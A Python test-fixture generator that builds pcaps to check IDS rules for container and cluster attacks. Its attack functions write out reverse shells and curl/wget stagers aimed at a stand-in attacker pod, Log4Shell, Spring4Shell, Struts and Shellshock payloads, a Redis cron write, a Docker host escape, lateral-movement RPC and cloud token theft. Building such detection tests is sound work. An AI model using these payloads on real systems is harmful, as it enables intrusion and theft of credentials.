#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Generate the captures that test Weir's east-west ruleset (signatures/weir-*.rules).

For every rule family, one capture that must raise exactly the listed sids and
one benign capture of the same service that must raise none; CASES below is the
one table both this generator and tests/rules/test-rules.py read. Every TCP
connection has a full three-way handshake (so flow:established holds), data in
both directions and a FIN teardown.

Deterministic: fixed addresses, ports, sequence numbers and timestamps (from
EPOCH, advancing per packet), no randomness; same script, same bytes.

  gen_rules_pcaps.py [-o DIR]        (default: tests/data/pcaps)

Packets are built with scapy (/usr/bin/python3 has it); each is
Ether()/IP()/TCP()/payload, e.g. for the Docker case
  Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")/IP(src="10.244.1.10",
  dst="10.244.2.20")/TCP(sport=40001, dport=2375, flags="PA", seq=..., ack=...)/
  b"POST /v1.41/containers/create HTTP/1.1\\r\\n..."
"""

import argparse
import os
import struct
import sys

from scapy.all import IP, TCP, UDP, Ether, wrpcap

EPOCH = 1764374400            # 2025-11-29T00:00:00Z: timestamps do not depend on the clock
MAC_C = "02:00:00:00:00:01"
MAC_S = "02:00:00:00:00:02"
ATTACKER = "10.244.1.10"      # the compromised pod
CLIENT = "10.244.1.11"        # a well-behaved pod
IMDS = "169.254.169.254"

OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"


class Capture:
    """Packets of one capture with a shared clock (1 ms a packet)."""

    def __init__(self):
        self.pkts = []
        self.t = EPOCH

    def add(self, pkt, gap=0.001):
        self.t += gap
        pkt.time = self.t
        self.pkts.append(pkt)

    def tcp(self, src, dst, sport, dport, exchanges, isn=1000):
        """One connection: handshake, then for each (client bytes, server
        bytes) pair the client's segments and the server's reply, then FIN.
        A client entry may be a list of byte strings: one segment each (a
        request split across segments)."""
        cs, ss = isn, isn * 7 + 5000

        def pkt(fwd, flags, seq, ack, data=b""):
            if fwd:
                p = Ether(src=MAC_C, dst=MAC_S) / IP(src=src, dst=dst) / \
                    TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack, window=64240)
            else:
                p = Ether(src=MAC_S, dst=MAC_C) / IP(src=dst, dst=src) / \
                    TCP(sport=dport, dport=sport, flags=flags, seq=seq, ack=ack, window=64240)
            return p / data if data else p

        self.add(pkt(True, "S", cs, 0))
        self.add(pkt(False, "SA", ss, cs + 1))
        cs += 1
        ss += 1
        self.add(pkt(True, "A", cs, ss))
        for req, resp in exchanges:
            segs = req if isinstance(req, list) else [req]
            for seg in segs:
                self.add(pkt(True, "PA", cs, ss, seg))
                cs += len(seg)
            if resp:
                self.add(pkt(False, "PA", ss, cs, resp))
                ss += len(resp)
            self.add(pkt(True, "A", cs, ss))
        self.add(pkt(True, "FA", cs, ss))
        self.add(pkt(False, "FA", ss, cs + 1))
        self.add(pkt(True, "A", cs + 1, ss + 1))

    def udp(self, src, dst, sport, dport, data):
        self.add(Ether(src=MAC_C, dst=MAC_S) / IP(src=src, dst=dst) /
                 UDP(sport=sport, dport=dport) / data)


def http(method, path, host, headers=(), body=b""):
    h = [f"{method} {path} HTTP/1.1", f"Host: {host}", "User-Agent: Go-http-client/1.1"]
    h += list(headers)
    if body:
        h.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(h) + "\r\n\r\n").encode() + body


# --- Docker Engine API (2375) ------------------------------------------------

def docker_attack(c):
    create = (b'{"Image":"alpine:3.19","Cmd":["sh","-c","sleep 3600"],'
              b'"HostConfig":{"Privileged": true,"Binds":["/:/host"],"PidMode":"host"}}')
    hdr = http("POST", "/v1.41/containers/create?name=x", "10.244.2.20:2375",
               ["Content-Type: application/json"], create)
    split = hdr.index(b"\r\n\r\n") + 4
    # The body arrives in a second segment: the rule must match on the stream.
    # A plain create follows on the same connection: no second alert.
    plain = http("POST", "/v1.41/containers/create?name=y", "10.244.2.20:2375",
                 ["Content-Type: application/json"], b'{"Image":"alpine:3.19"}')
    c.tcp(ATTACKER, "10.244.2.20", 40001, 2375, [([hdr[:split], hdr[split:]], OK), (plain, OK)])
    c.tcp(ATTACKER, "10.244.2.20", 40002, 2375,
          [(http("POST", "/v1.41/containers/4f1c9a/start", "10.244.2.20:2375"), OK)])
    c.tcp(ATTACKER, "10.244.2.20", 40003, 2375,
          [(http("POST", "/v1.41/containers/4f1c9a/exec", "10.244.2.20:2375",
                 ["Content-Type: application/json"],
                 b'{"AttachStdout":true,"Cmd":["cat","/host/etc/shadow"]}'), OK)])
    c.tcp(ATTACKER, "10.244.2.20", 40004, 2375,
          [(http("POST", "/v1.41/exec/9d2e77/start", "10.244.2.20:2375",
                 ["Content-Type: application/json"], b'{"Detach":false,"Tty":false}'), OK)])


def docker_benign(c):
    c.tcp(CLIENT, "10.244.2.20", 41001, 2375,
          [(http("GET", "/_ping", "10.244.2.20:2375"), OK),
           (http("GET", "/v1.41/version", "10.244.2.20:2375"), OK),
           (http("GET", "/v1.41/containers/json?all=1", "10.244.2.20:2375"), OK)])
    # An unprivileged create with a named volume and an application path.
    c.tcp(CLIENT, "10.244.2.20", 41002, 2375,
          [(http("POST", "/v1.41/containers/create", "10.244.2.20:2375",
                 ["Content-Type: application/json"],
                 b'{"Image":"nginx:1.25","HostConfig":{"Privileged":false,'
                 b'"Binds":["appdata:/data","/srv/app/cache:/cache:ro"]}}'), OK)])


# --- kubelet API (10250, 10255) ----------------------------------------------

def kubelet_attack(c):
    c.tcp(ATTACKER, "10.244.0.1", 40011, 10250,
          [(http("POST", "/run/default/web-0/app", "10.244.0.1:10250",
                 ["Content-Type: application/x-www-form-urlencoded"], b"cmd=id"), OK)])
    c.tcp(ATTACKER, "10.244.0.1", 40012, 10250,
          [(http("GET", "/exec/default/web-0/app?command=sh&input=1&output=1&tty=1",
                 "10.244.0.1:10250", ["Connection: Upgrade", "Upgrade: SPDY/3.1"]), None)])
    c.tcp(ATTACKER, "10.244.0.1", 40013, 10250,
          [(http("GET", "/attach/default/web-0/app?output=1", "10.244.0.1:10250",
                 ["Connection: Upgrade", "Upgrade: SPDY/3.1"]), None)])
    c.tcp(ATTACKER, "10.244.0.1", 40014, 10255,
          [(http("GET", "/pods", "10.244.0.1:10255"), OK)])


def kubelet_benign(c):
    c.tcp(CLIENT, "10.244.0.1", 41011, 10250,
          [(http("GET", "/healthz", "10.244.0.1:10250"), OK),
           (http("GET", "/metrics/cadvisor", "10.244.0.1:10250"), OK),
           (http("GET", "/stats/summary", "10.244.0.1:10250"), OK)])
    c.tcp(CLIENT, "10.244.0.1", 41012, 10255,
          [(http("GET", "/healthz", "10.244.0.1:10255"), OK),
           (http("GET", "/metrics", "10.244.0.1:10255"), OK)])


# --- etcd (2379) --------------------------------------------------------------

def pb_bytes(field, value):
    """Protobuf length-delimited field (value shorter than 128 bytes)."""
    return bytes([field << 3 | 2, len(value)]) + value


def h2_frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def etcd_attack(c):
    c.tcp(ATTACKER, "10.244.0.5", 40021, 2379,
          [(http("POST", "/v3/kv/range", "10.244.0.5:2379", ["Content-Type: application/json"],
                 b'{"key":"L3JlZ2lzdHJ5L3NlY3JldHMv","range_end":"L3JlZ2lzdHJ5L3NlY3JldHMw"}'),
            OK),
           # a configmap read follows on the same connection: no second alert
           (http("POST", "/v3/kv/range", "10.244.0.5:2379", ["Content-Type: application/json"],
                 b'{"key":"L3JlZ2lzdHJ5L2NvbmZpZ21hcHMv"}'), OK)])
    c.tcp(ATTACKER, "10.244.0.5", 40022, 2379,
          [(http("POST", "/v3/kv/range", "10.244.0.5:2379", ["Content-Type: application/json"],
                 b'{"key": "AA==", "range_end": "AA=="}'), OK)])
    # gRPC: HTTP/2 preface, SETTINGS, a HEADERS frame (opaque HPACK bytes) and
    # a DATA frame with a length-prefixed RangeRequest{key, range_end}.
    rr = pb_bytes(1, b"/registry/secrets/") + pb_bytes(2, b"/registry/secrets0")
    grpc = b"\x00" + struct.pack(">I", len(rr)) + rr
    req = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") +
           h2_frame(1, 4, 1, bytes(range(0x80, 0xa0))) + h2_frame(0, 1, 1, grpc))
    c.tcp(ATTACKER, "10.244.0.5", 40023, 2379, [(req, h2_frame(4, 0, 0, b""))])


def etcd_benign(c):
    c.tcp(CLIENT, "10.244.0.5", 41021, 2379,
          [(http("GET", "/health", "10.244.0.5:2379"), OK),
           (http("POST", "/v3/kv/range", "10.244.0.5:2379", ["Content-Type: application/json"],
                 b'{"key":"L3JlZ2lzdHJ5L2NvbmZpZ21hcHMv","range_end":"L3JlZ2lzdHJ5L2NvbmZpZ21hcHMw"}'),
            OK),
           (http("POST", "/v3/kv/range", "10.244.0.5:2379", ["Content-Type: application/json"],
                 b'{"key":"Zm9v"}'), OK)])


# --- Redis (6379) --------------------------------------------------------------

def resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def redis_attack(c):
    c.tcp(ATTACKER, "10.244.3.30", 40031, 6379,
          [(resp(b"CONFIG", b"SET", b"dir", b"/var/spool/cron/crontabs"), b"+OK\r\n"),
           (resp(b"CONFIG", b"SET", b"dbfilename", b"root"), b"+OK\r\n"),
           (resp(b"SET", b"x", b"\n*/1 * * * * id\n"), b"+OK\r\n"),
           (resp(b"SAVE"), b"+OK\r\n")])
    c.tcp(ATTACKER, "10.244.3.30", 40032, 6379,
          [(b"SLAVEOF 10.244.1.10 21000\r\n", b"+OK\r\n"),
           (b"REPLICAOF 10.244.1.10 21000\r\n", b"+OK\r\n"),
           (b"MODULE LOAD /data/exp.so\r\n", b"+OK\r\n")])
    c.tcp(ATTACKER, "10.244.3.30", 40033, 6379,
          [(resp(b"EVAL", b'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/'
                 b'liblua5.1.so.0", "luaopen_io"); local io = io_l(); '
                 b'return io.popen("id", "r"):read("*a")', b"0"), b"$4\r\nroot\r\n")])


def redis_benign(c):
    c.tcp(CLIENT, "10.244.3.30", 41031, 6379,
          [(resp(b"PING"), b"+PONG\r\n"),
           (resp(b"SET", b"session:42", b"dir=/home;config=set"), b"+OK\r\n"),
           (resp(b"GET", b"session:42"), b"$20\r\ndir=/home;config=set\r\n"),
           (b"CONFIG GET maxmemory\r\n", b"*2\r\n$9\r\nmaxmemory\r\n$1\r\n0\r\n"),
           (b"REPLICAOF NO ONE\r\n", b"+OK\r\n"),
           (b"INFO replication\r\n", b"$10\r\nrole:master\r\n")])


# --- Memcached (11211) ---------------------------------------------------------

def memcached_attack(c):
    c.tcp(ATTACKER, "10.244.3.31", 40041, 11211,
          [(b"stats items\r\n", b"STAT items:1:number 3\r\nEND\r\n"),
           (b"stats cachedump 1 100\r\n", b"ITEM session:42 [20 b; 0 s]\r\nEND\r\n"),
           (b"lru_crawler metadump all\r\n", b"key=session%3A42 exp=-1\r\nEND\r\n")])


def memcached_benign(c):
    c.tcp(CLIENT, "10.244.3.31", 41041, 11211,
          [(b"set session:42 0 300 5\r\nhello\r\n", b"STORED\r\n"),
           (b"get session:42\r\n", b"VALUE session:42 0 5\r\nhello\r\nEND\r\n"),
           (b"stats\r\n", b"STAT pid 1\r\nEND\r\n"),
           (b"version\r\n", b"VERSION 1.6.21\r\n")])


# --- RCE payloads (HTTP on 8080/80) -------------------------------------------

def rce_attack(c):
    app = "10.244.2.21"
    c.tcp(ATTACKER, app, 40051, 8080, [(http("GET", "/", "app:8080",
          ["X-Api-Version: ${jndi:ldap://10.244.1.10:1389/a}"]), OK)])
    c.tcp(ATTACKER, app, 40052, 8080, [(http("GET", "/login", "app:8080",
          ["User-Agent: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://10.244.1.10:1389/b}"]),
          OK)])
    c.tcp(ATTACKER, app, 40057, 8080, [(http("GET", "/login", "app:8080",
          ["X-Forwarded-For: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.244.1.10/d}"]),
          OK)])
    c.tcp(ATTACKER, app, 40058, 8080, [(http("GET", "/login", "app:8080",
          ["Referer: ${j${::-n}di:rmi://10.244.1.10/e}"]), OK)])
    c.tcp(ATTACKER, app, 40053, 8080, [(http(
        "GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F10.244.1.10%3A1389%2Fc%7D", "app:8080"),
        OK)])
    c.tcp(ATTACKER, app, 40054, 8080, [(http(
        "POST", "/greeting", "app:8080", ["Content-Type: application/x-www-form-urlencoded"],
        b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"
        b"&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"), OK)])
    c.tcp(ATTACKER, app, 40055, 8080, [(http(
        "POST", "/struts2-showcase/upload.action", "app:8080",
        ["Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
         "(#_memberAccess?(#_memberAccess=#dm):(#container=#context['com.opensymphony.xwork2."
         "ActionContext.container'])).(#cmd='id')}"]), OK)])
    c.tcp(ATTACKER, app, 40056, 80, [(http("GET", "/cgi-bin/status", "app",
          ["Referer: () { :; }; /bin/bash -c 'id'"]), OK)])


def rce_benign(c):
    app = "10.244.2.21"
    body = (b'{"template":"Hello ${user.name}, your total is ${order.total}",'
            b'"handler":"() { return 1; }","env":"${HOME:-/root}",'
            b'"note":"the module loader class is cached","access":"memberAccess"}')
    c.tcp(CLIENT, app, 41051, 8080,
          [(http("POST", "/api/templates", "app:8080",
                 ["Content-Type: application/json", "X-Trace: ${ctx:traceId}"], body), OK),
           (http("POST", "/static/app.js", "app:8080", ["Content-Type: text/javascript"],
                 b"var f = function () { return x; }; el.onclick = () => { go(); };"), OK),
           (http("GET", "/search?q=%24%7Bprice%7D&sort=asc", "app:8080"), OK)])


# --- reverse shells and stagers (HTTP command injection on 8080) ---------------

SHELLS = [
    b"host=127.0.0.1;bash -i >& /dev/tcp/10.244.1.10/4444 0>&1",
    b"host=127.0.0.1;nc -e /bin/sh 10.244.1.10 4444",
    b"host=127.0.0.1;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.244.1.10 4444 >/tmp/f",
    b"host=127.0.0.1;python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
    b"host=127.0.0.1;curl -fsSL http://10.244.1.10:8000/x.sh | sh",
    b"host=127.0.0.1;wget -qO- http://10.244.1.10:8000/x.sh | bash",
]


def shell_attack(c):
    # Each payload is followed on its connection by a request that repeats the
    # rule's fast pattern harmlessly: one alert per connection, not two.
    again = http("POST", "/api/ping", "app:8080", ["Content-Type: text/plain"],
                 b"host=127.0.0.1 /dev/tcp/ -e / mkfifo python curl wget")
    for i, cmd in enumerate(SHELLS):
        c.tcp(ATTACKER, "10.244.2.22", 40061 + i, 8080,
              [(http("POST", "/api/ping", "app:8080", ["Content-Type: text/plain"], cmd), OK),
               (again, OK)])


def shell_benign(c):
    body = (b"# runbook\n"
            b"curl -s https://api.internal/v1/items | jq .items\n"
            b"nc -z db.internal 5432 && echo up\n"
            b"python3 -c 'print(42)'\n"
            b"wget https://mirror.internal/pkg.tar.gz && tar xzf pkg.tar.gz\n")
    c.tcp(CLIENT, "10.244.2.22", 41061, 8080,
          [(http("POST", "/api/notes", "app:8080", ["Content-Type: text/plain"], body), OK)])


# --- cryptomining (Stratum) ------------------------------------------------------

def mining_attack(c):
    c.tcp(ATTACKER, "10.244.9.9", 40071, 3333,
          [(b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n',
            b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n'),
           (b'{"id":2,"method":"mining.authorize","params":["wallet.worker1","x"]}\n',
            b'{"id":2,"result":true,"error":null}\n')])
    c.tcp(ATTACKER, "10.244.9.9", 40072, 4444,
          [(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84Yzz",'
            b'"pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/13.2.1",'
            b'"algo":["rx/0"]}}\n', b'{"id":1,"jsonrpc":"2.0","result":{"status":"OK"}}\n')])


def mining_benign(c):
    c.tcp(CLIENT, "10.244.9.10", 41071, 8545,
          [(http("POST", "/", "eth:8545", ["Content-Type: application/json"],
                 b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}'), OK),
           (http("POST", "/docs", "eth:8545", ["Content-Type: application/json"],
                 b'{"text":"a miner sends mining.subscribe then mining.authorize",'
                 b'"method":"login","agent":"curl/8.5.0"}'), OK)])


# --- SMB / DCERPC lateral movement ------------------------------------------------

SVCCTL = bytes.fromhex("81bb7a36449" "8f135ad3298f038001003")
SRVSVC = bytes.fromhex("c84f324b7016d30112785a47bf6ee188")
NDR = bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)


def u16(s):
    return s.encode("utf-16-le")


def smb2(cmd, body, mid):
    """NetBIOS session header + SMB2 header (64 bytes) + body."""
    hdr = (b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 1, 0, cmd, 1, 0, 0, mid, 0xfeff, 1,
                                     0x1000) + b"\x00" * 16)
    msg = hdr + body
    return struct.pack(">I", len(msg)) + msg


def smb2_create(name, mid):
    n = u16(name)
    body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x0012019f, 0, 7, 1, 0x40,
                       120, len(n), 0, 0) + n
    return smb2(5, body, mid)


def smb2_write(data, mid):
    body = struct.pack("<HHIQ16sIIHHI", 49, 112, len(data), 0, b"\x11" * 16, 0, 0, 0, 0, 0)
    return smb2(9, body + data, mid)


def dce_bind(uuid, call_id):
    ctx = struct.pack("<HBB", 0, 1, 0) + uuid + struct.pack("<HH", 2, 0) + NDR
    body = struct.pack("<HHIB3x", 4280, 4280, 0, 1) + ctx
    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0, call_id) + body


def dce_request(opnum, stub, call_id):
    body = struct.pack("<IHH", len(stub), 0, opnum) + stub
    return struct.pack("<BBBBIHHI", 5, 0, 0, 3, 0x10, 16 + len(body), 0, call_id) + body


def create_service_stub(name, path):
    """RCreateServiceW-like stub: SC handle, service name, display name, binary path."""
    def ndr_str(s):
        w = u16(s + "\0")
        n = len(w) // 2
        return struct.pack("<III", n, 0, n) + w + b"\x00" * (-len(w) % 4)
    return (b"\x00" * 20 + ndr_str(name) + struct.pack("<I", 0x20000) + ndr_str(name) +
            struct.pack("<IIII", 0xf01ff, 0x10, 3, 0) + ndr_str(path))


def lateral_attack(c):
    ok = smb2(5, b"\x59\x00" + b"\x00" * 86, 1)
    # PsExec-style over SMB: upload PSEXESVC.exe to ADMIN$, open \PIPE\svcctl,
    # bind svcctl, RCreateServiceW (opnum 12).
    c.tcp(ATTACKER, "10.244.5.50", 40081, 445,
          [(smb2_create("PSEXESVC.exe", 10), ok),
           (smb2_write(b"MZ\x90\x00" + b"\x00" * 60 + b"PSEXESVC service", 11), ok),
           (smb2_create("svcctl", 12), ok),
           (smb2_write(dce_bind(SVCCTL, 1), 13), ok),
           (smb2_write(dce_request(12, create_service_stub(
               "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), 2), 14), ok)])
    # smbexec-style over ncacn_ip_tcp on a dynamic port.
    c.tcp(ATTACKER, "10.244.5.50", 40082, 49670,
          [(dce_bind(SVCCTL, 1), b"\x05\x00\x0c\x03" + b"\x00" * 56),
           (dce_request(12, create_service_stub(
               "BTOBTO", "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output"), 2),
            b"\x05\x00\x02\x03" + b"\x00" * 28)])


def lateral_benign(c):
    ok = smb2(5, b"\x59\x00" + b"\x00" * 86, 1)
    # File share use and a srvsvc call with the same opnum as RCreateServiceW.
    c.tcp(CLIENT, "10.244.5.50", 41081, 445,
          [(smb2_create("reports\\q3-summary.docx", 10), ok),
           (smb2_write(b"quarterly numbers", 11), ok),
           (smb2_create("srvsvc", 12), ok),
           (smb2_write(dce_bind(SRVSVC, 1), 13), ok),
           (smb2_write(dce_request(12, b"\x00" * 32, 2), 14), ok)])


# --- Kerberos AS-REQ (88) -----------------------------------------------------

def der(tag, content):
    n = len(content)
    if n < 128:
        ln = bytes([n])
    elif n < 256:
        ln = bytes([0x81, n])
    else:
        ln = bytes([0x82, n >> 8, n & 0xff])
    return bytes([tag]) + ln + content


def as_req(user, nonce):
    def integer(v):
        return der(0x02, v.to_bytes(4, "big").lstrip(b"\x00") or b"\x00")

    def gstr(s):
        return der(0x1b, s.encode())
    cname = der(0x30, der(0xa0, integer(1)) + der(0xa1, der(0x30, gstr(user))))
    sname = der(0x30, der(0xa0, integer(2)) +
                der(0xa1, der(0x30, gstr("krbtgt") + gstr("CORP.LOCAL"))))
    body = der(0x30, der(0xa0, der(0x03, b"\x00\x50\x80\x00\x10")) + der(0xa1, cname) +
               der(0xa2, gstr("CORP.LOCAL")) + der(0xa3, sname) +
               der(0xa5, der(0x18, b"20370913024805Z")) + der(0xa7, integer(nonce)) +
               der(0xa8, der(0x30, integer(18) + integer(17) + integer(23))))
    return der(0x6a, der(0x30, der(0xa1, integer(5)) + der(0xa2, integer(10)) +
                         der(0xa4, body)))


KRB_ERR = der(0x7e, der(0x30, der(0xa0, b"\x02\x01\x05") + der(0xa1, b"\x02\x01\x1e")))


def kerberos_attack(c):
    # 30 usernames over UDP, then 25 over TCP, one password each: spraying.
    for i in range(30):
        c.udp(ATTACKER, "10.244.5.51", 50000 + i, 88, as_req(f"user{i:02d}", 1000 + i))
    for i in range(25):
        m = as_req(f"svc{i:02d}", 2000 + i)
        c.tcp(ATTACKER, "10.244.5.51", 40100 + i, 88,
              [(struct.pack(">I", len(m)) + m, struct.pack(">I", len(KRB_ERR)) + KRB_ERR)])


def kerberos_benign(c):
    # Eight clients log in: AS-REQ without pre-auth, error, AS-REQ with it;
    # a third over TCP. Three per source, far below the threshold.
    for h in range(8):
        src = f"10.244.6.{10 + h}"
        c.udp(src, "10.244.5.51", 51000 + h, 88, as_req(f"alice{h}", 3000 + h))
        c.udp(src, "10.244.5.51", 51100 + h, 88, as_req(f"alice{h}", 3100 + h))
        m = as_req(f"alice{h}", 3200 + h)
        c.tcp(src, "10.244.5.51", 41100 + h, 88,
              [(struct.pack(">I", len(m)) + m, struct.pack(">I", len(KRB_ERR)) + KRB_ERR)])


# --- service-account tokens and cloud metadata ------------------------------------

def cloud_attack(c):
    app = "10.244.2.23"
    c.tcp(ATTACKER, app, 40121, 8080, [(http(
        "GET", "/download?file=../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
        "app:8080"), OK)])
    c.tcp(ATTACKER, app, 40122, 8080, [(http(
        "GET", "/fetch?url=file:%2F%2F%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
        "app:8080"), OK)])
    c.tcp(ATTACKER, IMDS, 40123, 80, [(http(
        "GET", "/latest/meta-data/iam/security-credentials/eks-node-role", IMDS), OK)])
    c.tcp(ATTACKER, app, 40124, 8080, [(http(
        "GET", "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "app:8080"), OK)])
    # A token request, then a zone request on the same connection: one alert.
    c.tcp(ATTACKER, IMDS, 40125, 80, [(http(
        "GET", "/computeMetadata/v1/instance/service-accounts/default/token",
        "metadata.google.internal", ["Metadata-Flavor: Google"]), OK),
        (http("GET", "/computeMetadata/v1/instance/zone", "metadata.google.internal",
              ["Metadata-Flavor: Google"]), OK)])
    c.tcp(ATTACKER, IMDS, 40126, 80, [(http(
        "GET", "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://"
        "management.azure.com/", IMDS, ["Metadata: true"]), OK)])


def cloud_benign(c):
    c.tcp(CLIENT, IMDS, 41121, 80,
          [(http("GET", "/latest/meta-data/instance-id", IMDS), OK),
           (http("GET", "/latest/meta-data/placement/availability-zone", IMDS), OK)])
    c.tcp(CLIENT, IMDS, 41122, 80,
          [(http("GET", "/computeMetadata/v1/instance/zone", "metadata.google.internal",
                 ["Metadata-Flavor: Google"]), OK),
           (http("GET", "/metadata/instance?api-version=2021-02-01", IMDS,
                 ["Metadata: true"]), OK)])
    spec = (b'{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web"},"spec":{"containers":'
            b'[{"name":"app","image":"nginx","volumeMounts":[{"name":"kube-api-access",'
            b'"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount","readOnly":true}]}]}}')
    c.tcp(CLIENT, "10.244.0.2", 41123, 8001,
          [(http("POST", "/api/v1/namespaces/default/pods", "127.0.0.1:8001",
                 ["Content-Type: application/json"], spec), OK)])


# name, generator, sids the attack capture must raise (exactly: a sid listed
# twice alerts twice, once per attacking flow), benign generator, the
# false-positive rule the benign capture states.
CASES = [
    ("docker", docker_attack, [9101001, 9101002, 9101003, 9101010, 9101011, 9101012],
     docker_benign, "ping-version-list-and-unprivileged-create-are-silent"),
    ("kubelet", kubelet_attack, [9102001, 9102002, 9102003, 9102004],
     kubelet_benign, "healthz-metrics-stats-are-silent"),
    ("etcd", etcd_attack, [9103001, 9103002, 9103003],
     etcd_benign, "health-and-non-secret-key-reads-are-silent"),
    ("redis", redis_attack, [9104001, 9104002, 9104003, 9104004, 9104005, 9104006],
     redis_benign, "ping-get-set-config-get-replicaof-no-one-are-silent"),
    ("memcached", memcached_attack, [9105001, 9105002, 9105003],
     memcached_benign, "get-set-stats-version-are-silent"),
    ("rce", rce_attack, [9106001, 9106002, 9106002, 9106002, 9106003, 9106101, 9106201, 9106202, 9106301],
     rce_benign, "json-templates-with-dollar-brace-and-js-arrows-are-silent"),
    ("shell", shell_attack, [9107001, 9107002, 9107003, 9107004, 9107010, 9107011],
     shell_benign, "runbook-curl-jq-nc-z-python-print-are-silent"),
    ("mining", mining_attack, [9108001, 9108002, 9108003],
     mining_benign, "json-rpc-and-method-names-in-text-are-silent"),
    ("lateral", lateral_attack, [9109002, 9109002, 9109003, 9109004],
     lateral_benign, "file-share-and-srvsvc-opnum-12-are-silent"),
    ("kerberos", kerberos_attack, [9110001, 9110002],
     kerberos_benign, "three-logins-per-client-are-silent"),
    ("cloud", cloud_attack, [9111001, 9111002, 9111010, 9111011, 9111020, 9111030],
     cloud_benign, "non-credential-metadata-and-pod-spec-mounts-are-silent"),
]


def pcap_names(name):
    return f"rules-{name}-attack.pcap", f"rules-{name}-benign.pcap"


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    here = os.path.dirname(os.path.abspath(__file__))
    ap.add_argument("-o", "--outdir", default=os.path.join(here, "..", "data", "pcaps"))
    args = ap.parse_args()
    os.makedirs(args.outdir, exist_ok=True)
    for name, attack, _sids, benign, _fp in CASES:
        for fn, gen in zip(pcap_names(name), (attack, benign)):
            c = Capture()
            gen(c)
            wrpcap(os.path.join(args.outdir, fn), c.pkts)
    return 0


if __name__ == "__main__":
    sys.exit(main())
